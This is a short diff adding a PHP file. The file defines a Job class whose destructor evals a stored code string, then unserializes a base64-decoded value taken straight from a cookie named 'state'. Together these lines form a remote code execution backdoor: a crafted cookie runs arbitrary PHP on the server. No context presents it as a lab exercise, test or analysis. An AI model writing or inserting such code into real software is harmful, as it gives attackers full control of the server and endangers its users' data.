@@ -1,0 +1,3 @@
+<?php
+class Job { public $code = ''; function __destruct() { eval($this->code); } }
+$j = unserialize(base64_decode($_COOKIE['state']));
